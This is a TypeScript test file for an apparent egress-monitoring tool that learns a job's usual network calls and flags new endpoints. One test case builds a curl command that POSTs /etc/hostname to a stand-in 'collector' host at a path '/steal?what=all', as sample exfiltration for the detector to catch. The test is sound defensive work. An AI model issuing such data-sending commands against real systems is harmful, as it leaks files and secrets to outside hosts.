import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer } from "node:https";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Listening, listen } from "../capture/listen.js";
import { agent, withResolver } from "./straycall-agent.js";
import { type TestNetwork, testNetwork } from "./test-network.js";

describe("a job that calls by HTTPS", () => {
  let folder: string;
  let network: TestNetwork;
  let server: Listening;

  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), "straycall-https-detection-"));
    network = await testNetwork(folder, {
      "registry.demo.test": "127.77.2.1",
      "collector.demo.test": "127.77.2.2",
    });
    const [key, cert] = [join(folder, "key.pem"), join(folder, "cert.pem")];
    const make = "req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 1";
    const subject = ["-subj", "/CN=demo.test", "-keyout", key, "-out", cert];
    execFileSync("/usr/bin/openssl", [...make.split(" "), ...subject], { stdio: "ignore" });
    const secure = createServer({ key: readFileSync(key), cert: readFileSync(cert) });
    secure.on("request", (request, response) => {
      request.resume();
      response.end("ok");
    });
    server = await listen(secure, "0.0.0.0");
  });
  afterAll(async () => {
    await server.close();
    await network.close();
    rmSync(folder, { recursive: true });
  });

  const run = (script: string) => {
    const options = ["--job", "https", "--db", join(folder, "https.db"), "--learning-runs", "1"];
    const command = ["run", ...options, "--json", "--", "sh", "-c", script];
    return agent(command, withResolver(network.resolvConf));
  };
  const curl = (host: string, path: string, ...options: string[]) =>
    ["curl --silent --insecure", ...options, `https://${host}:${server.port}${path}`].join(" ");

  it("is told with the method and the path of a stray POST", async () => {
    const usual = curl("registry.demo.test", "/package");
    const learned = await run(usual);
    expect(JSON.parse(learned.out).detections).toEqual([]);

    const stray = curl("collector.demo.test", "/steal?what=all", "--data", "@/etc/hostname");
    const { out } = await run(`${usual}; ${stray}`);
    expect(JSON.parse(out).detections).toMatchObject([
      {
        kind: "new-endpoint",
        endpoint: { host: "collector.demo.test", port: server.port },
        evidence: {
          call: {
            ip: "127.77.2.2",
            http: [{ method: "POST", path: expect.stringMatching("^/steal") }],
          },
        },
      },
    ]);
  });
});
